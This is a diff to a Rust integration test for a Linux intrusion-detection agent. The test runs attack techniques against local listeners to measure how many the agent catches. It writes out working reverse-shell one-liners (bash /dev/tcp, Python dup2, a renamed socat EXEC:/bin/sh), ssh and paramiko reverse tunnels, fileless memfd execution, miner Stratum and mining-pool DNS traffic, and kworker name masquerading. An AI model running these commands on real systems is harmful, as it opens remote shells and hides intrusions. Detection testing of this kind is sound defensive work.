@@ -67,7 +67,10 @@ fn sh(cmd: &str) {
 fn wait_port(port: u16) {
     let t = Instant::now();
     while TcpStream::connect(("127.0.0.1", port)).is_err() {
-        assert!(t.elapsed() < Duration::from_secs(15), "port {port} never opened");
+        assert!(
+            t.elapsed() < Duration::from_secs(15),
+            "port {port} never opened"
+        );
         std::thread::sleep(Duration::from_millis(100));
     }
 }
@@ -88,6 +91,16 @@ fn listener(addr: &str) -> u16 {
         }
     });
     port
+}
+
+/// A port free right now on 127.0.0.1 (remote-forward ports differ per run: a session child of
+/// an earlier run's sshd may still hold a fixed one).
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
 }
 
 /// A "shell catcher": accepts one connection, sends `exit` after a moment, reads until EOF.
@@ -206,6 +219,7 @@ fn evasions_are_caught_by_behaviour() {
     let fake = dir.join("kthelper");
     std::fs::copy("/usr/bin/ssh", &fake).unwrap();
     let target = listener("127.0.0.1");
+    let (f1, f2, f3) = (free_port(), free_port(), free_port());
     let t0 = Instant::now();
     let _renamed = spawn(Command::new(&fake).args([
         "root@127.0.0.1",
@@ -221,18 +235,71 @@ fn evasions_are_caught_by_behaviour() {
         "BatchMode=yes",
         "-N",
         "-R",
-        &format!("19001:127.0.0.1:{target}"),
+        &format!("{f1}:127.0.0.1:{target}"),
     ]));
     let fake_s = fake.display().to_string();
     let by_fake = |a: &Alert| a.exe.as_deref() == Some(fake_s.as_str());
-    expect(&s, &mut rows, "renamed ssh -R (options after destination)", "ssh-forwarding-flags", t0, by_fake);
-    expect(&s, &mut rows, "renamed ssh: SSH banner from an unexpected binary", "ssh-protocol-from-unexpected-binary", t0, by_fake);
-    wait_port(19001);
+    expect(
+        &s,
+        &mut rows,
+        "renamed ssh -R (options after destination)",
+        "ssh-forwarding-flags",
+        t0,
+        by_fake,
+    );
+    expect(
+        &s,
+        &mut rows,
+        "renamed ssh: SSH banner from an unexpected binary",
+        "ssh-protocol-from-unexpected-binary",
+        t0,
+        by_fake,
+    );
+    wait_port(f1);
     let t0 = Instant::now();
-    let mut c = TcpStream::connect(("127.0.0.1", 19001)).unwrap();
+    let mut c = TcpStream::connect(("127.0.0.1", f1)).unwrap();
     let _ = c.write_all(b"hello");
-    expect(&s, &mut rows, "renamed ssh: remote forward used", "ssh-remote-forward-in-use", t0, by_fake);
+    expect(
+        &s,
+        &mut rows,
+        "renamed ssh: remote forward used",
+        "ssh-remote-forward-in-use",
+        t0,
+        by_fake,
+    );
     drop(c);
+
+    // 1b. The forward hidden in an ssh_config file (-F) rather than on the command line.
+    let cfgf = dir.join("ssh_cfg");
+    std::fs::write(
+        &cfgf,
+        format!(
+            "Host tun\n  HostName 127.0.0.1\n  Port {SSHD_PORT}\n  User root\n  IdentityFile {key}\n  \
+             StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  BatchMode yes\n  \
+             RemoteForward {f3} 127.0.0.1:{target}\n"
+        ),
+    )
+    .unwrap();
+    let t0 = Instant::now();
+    let _cfgssh = spawn(Command::new("ssh").args(["-F", cfgf.to_str().unwrap(), "-N", "tun"]));
+    let src = format!("{}:9", cfgf.display());
+    expect(
+        &s,
+        &mut rows,
+        "ssh -F file with RemoteForward in the file",
+        "ssh-forwarding-options",
+        t0,
+        |a| {
+            a.event
+                .exec()
+                .and_then(|x| x.ssh_config.as_ref())
+                .is_some_and(|c| {
+                    c.directives
+                        .iter()
+                        .any(|d| d.key == "remoteforward" && d.source == src)
+                })
+        },
+    );
 
     // 2. paramiko inside python3 opening a reverse forward and serving it.
     let script = dir.join("fwd.py");
@@ -245,7 +312,7 @@ c = paramiko.SSHClient()
 c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
 c.connect("127.0.0.1", port={SSHD_PORT}, username="root", key_filename="{key}", allow_agent=False, look_for_keys=False)
 t = c.get_transport()
-t.request_port_forward("127.0.0.1", 19002)
+t.request_port_forward("127.0.0.1", {f2})
 while True:
     ch = t.accept(60)
     if ch is None:
@@ -259,27 +326,54 @@ while True:
     let t0 = Instant::now();
     let pyfwd = spawn(Command::new(py).arg(&script));
     let pypid = pyfwd.0.id();
-    expect(&s, &mut rows, "paramiko in python3: SSH banner", "ssh-protocol-from-unexpected-binary", t0, |a| a.pid == pypid);
-    wait_port(19002);
+    expect(
+        &s,
+        &mut rows,
+        "paramiko in python3: SSH banner",
+        "ssh-protocol-from-unexpected-binary",
+        t0,
+        |a| a.pid == pypid,
+    );
+    wait_port(f2);
     let t0 = Instant::now();
-    let mut c = TcpStream::connect(("127.0.0.1", 19002)).unwrap();
+    let mut c = TcpStream::connect(("127.0.0.1", f2)).unwrap();
     let _ = c.write_all(b"hello");
-    expect(&s, &mut rows, "paramiko in python3: remote forward used", "ssh-remote-forward-in-use", t0, |a| a.pid == pypid);
+    expect(
+        &s,
+        &mut rows,
+        "paramiko in python3: remote forward used",
+        "ssh-remote-forward-in-use",
+        t0,
+        |a| a.pid == pypid,
+    );
     drop(c);
 
     // 3. bash -i >& /dev/tcp/HOST/PORT 0>&1
     let port = catcher();
     let t0 = Instant::now();
-    let _b = spawn(Command::new("bash").args([
-        "-c",
-        &format!("bash -i >& /dev/tcp/{EXT}/{port} 0>&1"),
-    ]));
-    expect(&s, &mut rows, "bash /dev/tcp: the shell connects out", "shell-network-connect", t0, |a| {
-        a.event.net().is_some_and(|n| n.dst_port == Some(port))
-    });
-    expect(&s, &mut rows, "bash /dev/tcp: interactive shell on the socket", "reverse-shell-socket-stdio", t0, |a| {
-        a.event.exec().and_then(|x| x.stdio.as_ref()).is_some_and(|st| st.peer_port == Some(port))
-    });
+    let _b =
+        spawn(Command::new("bash").args(["-c", &format!("bash -i >& /dev/tcp/{EXT}/{port} 0>&1")]));
+    expect(
+        &s,
+        &mut rows,
+        "bash /dev/tcp: the shell connects out",
+        "shell-network-connect",
+        t0,
+        |a| a.event.net().is_some_and(|n| n.dst_port == Some(port)),
+    );
+    expect(
+        &s,
+        &mut rows,
+        "bash /dev/tcp: interactive shell on the socket",
+        "reverse-shell-socket-stdio",
+        t0,
+        |a| {
+            a.event
+                .exec()
+                .and_then(|x| x.stdio.as_ref())
+                .is_some_and(|st| st.peer_port == Some(port))
+        },
+    );
 
     // 4. python socket + dup2 + /bin/sh
     let port = catcher();
@@ -289,25 +383,47 @@ while True:
         &format!("import socket,os,subprocess; s=socket.create_connection(('{EXT}',{port})); [os.dup2(s.fileno(),f) for f in (0,1,2)]; subprocess.call(['/bin/sh','-i'])"),
     ]));
     let pyspid = pys.0.id();
-    expect(&s, &mut rows, "python dup2 reverse shell: socket onto stdio", "socket-dup-to-stdio", t0, |a| a.pid == pyspid);
-    expect(&s, &mut rows, "python dup2 reverse shell: sh on the socket", "reverse-shell-socket-stdio", t0, |a| {
-        a.event.exec().and_then(|x| x.stdio.as_ref()).is_some_and(|st| st.peer_port == Some(port))
-    });
+    expect(
+        &s,
+        &mut rows,
+        "python dup2 reverse shell: socket onto stdio",
+        "socket-dup-to-stdio",
+        t0,
+        |a| a.pid == pyspid,
+    );
+    expect(
+        &s,
+        &mut rows,
+        "python dup2 reverse shell: sh on the socket",
+        "reverse-shell-socket-stdio",
+        t0,
+        |a| {
+            a.event
+                .exec()
+                .and_then(|x| x.stdio.as_ref())
+                .is_some_and(|st| st.peer_port == Some(port))
+        },
+    );
 
     // 5. socat copied to another name, EXEC:/bin/sh
     let port = catcher();
     let relay = dir.join("updater");
     std::fs::copy("/usr/bin/socat", &relay).unwrap();
     let t0 = Instant::now();
-    let _so = spawn(Command::new(&relay).args([
-        &format!("TCP:{EXT}:{port}"),
-        "EXEC:/bin/sh",
-    ]));
+    let _so = spawn(Command::new(&relay).args([&format!("TCP:{EXT}:{port}"), "EXEC:/bin/sh"]));
     // socat hands EXEC a socketpair and relays: the shell's stdio are unix sockets whose
     // other end is held by the (renamed) socat with its external connection.
-    expect(&s, &mut rows, "renamed socat EXEC:/bin/sh", "shell-relayed-to-network", t0, |a| {
-        a.lineage.first().and_then(|p| p.exe.as_deref()) == Some(relay.display().to_string().as_str())
-    });
+    expect(
+        &s,
+        &mut rows,
+        "renamed socat EXEC:/bin/sh",
+        "shell-relayed-to-network",
+        t0,
+        |a| {
+            a.lineage.first().and_then(|p| p.exe.as_deref())
+                == Some(relay.display().to_string().as_str())
+        },
+    );
 
     // 6. A program run from a memfd (fexecve).
     let t0 = Instant::now();
@@ -321,9 +437,14 @@ while True:
     assert!(out.success());
     // The kernel names the task after the memfd (`memfd:worker`); the exe is `/dev/fd/N` or,
     // when /proc was read in time, `/memfd:worker (deleted)`.
-    expect(&s, &mut rows, "memfd exec (fexecve)", "fileless-exec", t0, |a| {
-        a.comm == "memfd:worker" && a.event.exec().is_some_and(|x| x.exe_unlinked)
-    });
+    expect(
+        &s,
+        &mut rows,
+        "memfd exec (fexecve)",
+        "fileless-exec",
+        t0,
+        |a| a.comm == "memfd:worker" && a.event.exec().is_some_and(|x| x.exe_unlinked),
+    );
 
     // 7. XMRig login with the agent past byte 64, sent with sendmsg; Stratum with writev.
     let pool = listener(EXT);
@@ -350,16 +471,33 @@ while True:
         .status()
         .unwrap();
     assert!(st.success());
-    expect(&s, &mut rows, "XMRig login via sendmsg (agent past byte 64)", "stratum-handshake", t0, |a| {
-        a.event
-            .net_payload()
-            .is_some_and(|p| p.app.miner_agent.as_deref().is_some_and(|x| x.starts_with("XMRig/6.21.0")))
-    });
-    expect(&s, &mut rows, "Stratum subscribe via writev", "stratum-handshake", t0, |a| {
-        a.event
-            .net_payload()
-            .is_some_and(|p| p.app.rpc_method.as_deref() == Some("mining.subscribe"))
-    });
+    expect(
+        &s,
+        &mut rows,
+        "XMRig login via sendmsg (agent past byte 64)",
+        "stratum-handshake",
+        t0,
+        |a| {
+            a.event.net_payload().is_some_and(|p| {
+                p.app
+                    .miner_agent
+                    .as_deref()
+                    .is_some_and(|x| x.starts_with("XMRig/6.21.0"))
+            })
+        },
+    );
+    expect(
+        &s,
+        &mut rows,
+        "Stratum subscribe via writev",
+        "stratum-handshake",
+        t0,
+        |a| {
+            a.event
+                .net_payload()
+                .is_some_and(|p| p.app.rpc_method.as_deref() == Some("mining.subscribe"))
+        },
+    );
 
     // 8. DNS: raw UDP, and the system resolver (getent) pointed at 127.0.0.1 in a private mount
     //    namespace.
@@ -367,22 +505,45 @@ while True:
     sh(&format!(
         "{py} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04pool\\x0asupportxmr\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1', 53))\""
     ));
-    expect(&s, &mut rows, "DNS query of a pool name (raw UDP)", "mining-pool-dns-lookup", t0, |a| {
-        a.comm.starts_with("python")
-    });
-    std::fs::write(dir.join("resolv.conf"), "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n").unwrap();
+    expect(
+        &s,
+        &mut rows,
+        "DNS query of a pool name (raw UDP)",
+        "mining-pool-dns-lookup",
+        t0,
+        |a| a.comm.starts_with("python"),
+    );
+    std::fs::write(
+        dir.join("resolv.conf"),
+        "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
+    )
+    .unwrap();
     let t0 = Instant::now();
     let _ = Command::new("unshare")
         .args(["-m", "sh", "-c", &format!("mount --bind {d}/resolv.conf /etc/resolv.conf && getent ahosts gulf.moneroocean.stream")])
         .stdout(Stdio::null())
         .status()
         .unwrap();
-    expect(&s, &mut rows, "DNS via the system resolver (getent)", "mining-pool-dns-lookup", t0, |a| a.comm == "getent");
+    expect(
+        &s,
+        &mut rows,
+        "DNS via the system resolver (getent)",
+        "mining-pool-dns-lookup",
+        t0,
+        |a| a.comm == "getent",
+    );
     let t0 = Instant::now();
     sh(&format!(
         "{py} -c \"import socket\nfor i in range(40): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([6]) + ('c%05d' % i).encode() + b'\\x01t\\x07example\\x03org\\x00\\x00\\x10\\x00\\x01', ('127.0.0.1', 53))\""
     ));
-    expect(&s, &mut rows, "DNS tunnel: 40 names of one zone", "dns-tunnel-shape", t0, |a| a.comm.starts_with("python"));
+    expect(
+        &s,
+        &mut rows,
+        "DNS tunnel: 40 names of one zone",
+        "dns-tunnel-shape",
+        t0,
+        |a| a.comm.starts_with("python"),
+    );
 
     // 9. TLS ClientHello naming a pool (python ssl), to a listener that never answers.
     let t0 = Instant::now();
@@ -396,25 +557,42 @@ while True:
         )])
         .status()
         .unwrap();
-    expect(&s, &mut rows, "TLS SNI of a pool", "mining-pool-tls-or-http", t0, |a| {
-        a.event.net_payload().is_some_and(|p| p.app.sni.as_deref() == Some("xmr.pool.supportxmr.com"))
-    });
+    expect(
+        &s,
+        &mut rows,
+        "TLS SNI of a pool",
+        "mining-pool-tls-or-http",
+        t0,
+        |a| {
+            a.event
+                .net_payload()
+                .is_some_and(|p| p.app.sni.as_deref() == Some("xmr.pool.supportxmr.com"))
+        },
+    );
 
     // 10. A hand-written relay: holds an external connection, then connects to a local service.
     let t0 = Instant::now();
     let _ = Command::new(py)
-        .args(["-c", &format!(
-            "import socket,time\n\
+        .args([
+            "-c",
+            &format!(
+                "import socket,time\n\
              up=socket.create_connection(('{EXT}',{pool}))\n\
              time.sleep(2.5)\n\
              down=socket.create_connection(('127.0.0.1',{target}))\n\
              time.sleep(0.3)"
-        )])
+            ),
+        ])
         .status()
         .unwrap();
-    expect(&s, &mut rows, "relay: external link, then a local service", "relay-external-to-local", t0, |a| {
-        a.event.net().is_some_and(|n| n.dst_port == Some(target))
-    });
+    expect(
+        &s,
+        &mut rows,
+        "relay: external link, then a local service",
+        "relay-external-to-local",
+        t0,
+        |a| a.event.net().is_some_and(|n| n.dst_port == Some(target)),
+    );
 
     // 11. Disguised binaries: a daemon's name in /tmp, a kernel-thread argv[0].
     let kw = dir.join("kworker");
@@ -422,14 +600,24 @@ while True:
     let t0 = Instant::now();
     assert!(Command::new(&kw).status().unwrap().success());
     let kw_s = kw.display().to_string();
-    expect(&s, &mut rows, "daemon name on a /tmp binary", "masquerading-process-name", t0, |a| {
-        a.exe.as_deref() == Some(kw_s.as_str())
-    });
+    expect(
+        &s,
+        &mut rows,
+        "daemon name on a /tmp binary",
+        "masquerading-process-name",
+        t0,
+        |a| a.exe.as_deref() == Some(kw_s.as_str()),
+    );
     let t0 = Instant::now();
     sh("bash -c \"exec -a '[kworker/0:1]' /bin/true\"");
-    expect(&s, &mut rows, "kernel-thread argv[0]", "masquerading-process-name", t0, |a| {
-        a.argv.first().is_some_and(|x| x == "[kworker/0:1]")
-    });
+    expect(
+        &s,
+        &mut rows,
+        "kernel-thread argv[0]",
+        "masquerading-process-name",
+        t0,
+        |a| a.argv.first().is_some_and(|x| x == "[kworker/0:1]"),
+    );
 
     // 12. A GPU fd the open hook never saw: open(2), openat2(2), and one received over a unix
     //     socket (SCM_RIGHTS) from a process that opened it with openat(2) on a path the hook
@@ -458,12 +646,27 @@ while True:
         );
         let t0 = Instant::now();
         let out = Command::new(py).args(["-c", &script]).output().unwrap();
-        assert!(out.status.success(), "{attack}: {}", String::from_utf8_lossy(&out.stderr));
+        assert!(
+            out.status.success(),
+            "{attack}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
         let pid: u32 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
         let got = s
             .wait_event(WAIT, |e| e.pid == pid && e.gpu_ioctl().is_some())
-            .map(|e| format!("yes ({} on minor {})", e.gpu_ioctl().unwrap().op, e.gpu_ioctl().unwrap().minor));
-        erows.push(EventRow { attack, what: "gpu_ioctl event", got, latency: t0.elapsed() });
+            .map(|e| {
+                format!(
+                    "yes ({} on minor {})",
+                    e.gpu_ioctl().unwrap().op,
+                    e.gpu_ioctl().unwrap().minor
+                )
+            });
+        erows.push(EventRow {
+            attack,
+            what: "gpu_ioctl event",
+            got,
+            latency: t0.elapsed(),
+        });
     }
 
     // The recall table.
@@ -474,7 +677,12 @@ while True:
             r.attack,
             r.rule,
             match &r.got {
-                Some(a) => format!("yes ({:?}, pid {}, {})", a.severity, a.pid, a.exe.as_deref().unwrap_or(&a.comm)),
+                Some(a) => format!(
+                    "yes ({:?}, pid {}, {})",
+                    a.severity,
+                    a.pid,
+                    a.exe.as_deref().unwrap_or(&a.comm)
+                ),
                 None => "**no**".into(),
             },
             if r.got.is_some() {
@@ -497,7 +705,11 @@ while True:
             }
         );
     }
-    let mut missed: Vec<_> = rows.iter().filter(|r| r.got.is_none()).map(|r| r.attack).collect();
+    let mut missed: Vec<_> = rows
+        .iter()
+        .filter(|r| r.got.is_none())
+        .map(|r| r.attack)
+        .collect();
     missed.extend(erows.iter().filter(|r| r.got.is_none()).map(|r| r.attack));
     // Every alert carries the lineage of its process (the whole story in one record).
     for r in rows.iter().filter_map(|r| r.got.as_ref()) {
